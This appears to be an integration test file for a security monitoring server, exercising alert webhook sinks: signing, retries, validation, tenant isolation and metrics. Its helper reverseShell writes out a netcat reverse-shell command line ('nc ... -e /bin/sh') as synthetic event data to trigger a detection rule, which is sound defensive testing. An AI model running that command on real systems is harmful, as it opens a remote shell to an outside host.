// Alert sinks end to end: a real embedded server, a real agent stream raising the built-in netcat alert, and a
// local HTTP receiver on 127.0.0.1. Sinks are created, listed (the secret never comes back) and deleted; every
// new alert of the tenant is POSTed to each of its sinks, signed with the sink's secret; a failing receiver is
// retried with backoff; another tenant's alerts never reach the sink; counters are on /metrics.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { signature } from '../../src/alerts/transports.ts';
import type { VigilEvent } from '../../src/schema/event.ts';
import { call, FOREIGN_TENANT, startFixture, type Fixture } from './support.ts';

const SECRET = 'a webhook secret of some length';

interface Received { headers: Record<string, string | string[] | undefined>; body: string }

let f: Fixture;
let receiver: Server;
let url: string;
const received: Received[] = [];
/** Statuses the receiver answers in turn (then 204). */
const script: number[] = [];

before(async () => {
  receiver = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks).toString() });
      res.writeHead(script.shift() ?? 204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
  // The receiver is on loopback, which the SSRF guard refuses unless the server allows private targets.
  f = await startFixture({ allowPrivateAlertSinks: true, alertDelivery: { baseDelayMs: 20, maxDelayMs: 100, maxAttempts: 4, timeoutMs: 2000, pollMs: 20, repeatWindowMs: 0 } });
});

after(async () => {
  await f.stop();
  await new Promise((r) => receiver.close(r));
});

async function until<T>(what: string, probe: () => T | undefined | false | Promise<T | undefined | false>): Promise<T> {
  for (const end = Date.now() + 15_000; Date.now() < end; await new Promise((r) => setTimeout(r, 25))) {
    const v = await probe();
    if (v) return v;
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** A process start the built-in netcat reverse-shell rule alerts on, from agent `i` of the fixture. */
function reverseShell(i: number): VigilEvent {
  const e = f.agents[i].syntheticEvents(1)[0];
  const args = ['/usr/bin/nc', '10.9.8.7', '4444', '-e', '/bin/sh'];
  e.process = { ...e.process!, executable: args[0], name: 'nc', args, command_line: args.join(' ') };
  return e;
}

const metric = async (outcome: string) =>
  Number(new RegExp(`vigil_alert_sink_deliveries_total\\{outcome="${outcome}"\\} (\\d+)`).exec(await (await fetch(`${f.server.httpUrl}/metrics`, { headers: { authorization: `Bearer ${f.server.metricsToken}` } })).text())?.[1] ?? 0);

test('create, list and delete a sink; the secret is never returned; bad input is a precise 400', async () => {
  const created = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body: { name: 'soc', url, secret: SECRET } });
  assert.equal(created.status, 201);
  assert.deepEqual([created.body.name, created.body.url, created.body.has_secret], ['soc', url, true]);
  assert.ok(!JSON.stringify(created.body).includes(SECRET));
  const listed = await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin });
  assert.deepEqual(listed.body.alert_sinks.map((s: any) => s.id), [created.body.id]);
  assert.ok(!JSON.stringify(listed.body).includes(SECRET));
  assert.equal((await call(f, 'GET', '/alert-sinks', { token: f.tokens.foreign })).body.alert_sinks.length, 0, 'another tenant sees none');

  for (const [body, code] of [[{ name: 'x', url: 'ftp://127.0.0.1/' }, 'invalid_url'], [{ name: 'x', url: 'not a url' }, 'invalid_url'],
    [{ name: 'x', url: 'http://user:pw@127.0.0.1/' }, 'invalid_url'], [{ name: 'x', url, secret: 'short' }, 'invalid_request']] as const) {
    const r = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body });
    assert.deepEqual([r.status, r.body.code], [400, code], JSON.stringify(body));
  }
  const gone = await call(f, 'POST', '/alert-sinks', { token: f.tokens.admin, body: { name: 'temporary', url } });
  assert.equal(gone.body.has_secret, false);
  assert.equal((await call(f, 'DELETE', `/alert-sinks/${gone.body.id}`, { token: f.tokens.foreign })).status, 404);
  assert.equal((await call(f, 'DELETE', `/alert-sinks/${gone.body.id}`, { token: f.tokens.admin })).status, 204);
  assert.equal((await call(f, 'GET', '/alert-sinks', { token: f.tokens.admin })).body.alert_sinks.length, 1);
});

test('a new alert is POSTed to the sink, signed; a failing receiver is retried until it accepts', async () => {
  script.push(503, 500); // two failures, then accepted
  const before = received.length;
  const ev = reverseShell(0);
  await f.agents[0].send([ev]);
  const deliveries = await until('three attempts', () => received.length >= before + 3 && received.slice(before));
  const bodies = deliveries.map((d) => d.body);
  assert.equal(new Set(bodies).size, 1, 'every attempt carries the same delivery');
  const payload = JSON.parse(bodies[0]);
  assert.equal(payload.type, 'alert');
  assert.equal(payload.alert.tenant_id, 'default');
  assert.deepEqual(payload.alert.event_ids, [ev.event.id]);
  assert.equal(payload.alert.rule.author, 'Vigil');
  for (const d of deliveries) {
    assert.equal(d.headers['x-vigil-signature'], signature(SECRET, d.body));
    assert.equal(d.headers['x-vigil-delivery'], payload.delivery_id);
  }
  await until('the delivered counter', async () => (await metric('delivered')) >= 1);
  assert.match(await (await fetch(`${f.server.httpUrl}/metrics`, { headers: { authorization: `Bearer ${f.server.metricsToken}` } })).text(), /vigil_alert_sink_retries_total [2-9]/);
});

test('a receiver that keeps failing is given up after the last attempt; a 4xx is not retried', async () => {
  const failedBefore = await metric('failed');
  script.push(500, 500, 500, 500, 400);
  const start = received.length;
  await f.agents[0].send([reverseShell(0)]);
  await until('four attempts, then given up', async () => (await metric('failed')) === failedBefore + 1);
  assert.equal(received.length - start, 4);
  await f.agents[0].send([reverseShell(0)]);
  await until('refused at once', async () => (await metric('failed')) === failedBefore + 2);
  assert.equal(received.length - start, 5);
});

test('another tenant\'s alerts never reach this tenant\'s sink', async () => {
  const start = received.length;
  const foreign = reverseShell(1);
  await f.agents[1].send([foreign]);
  const own = reverseShell(0);
  await f.agents[0].send([own]);
  await until('the own alert delivered', () => received.slice(start).some((d) => d.body.includes(own.event.id)));
  assert.ok(!received.some((d) => d.body.includes(foreign.event.id)));
  const foreignAlerts = await call(f, 'GET', '/alerts', { token: f.tokens.foreign });
  assert.ok(foreignAlerts.body.alerts.some((a: any) => a.event_ids.includes(foreign.event.id)), 'the foreign alert was raised');
  assert.equal(FOREIGN_TENANT, foreignAlerts.body.alerts[0].tenant_id);
});
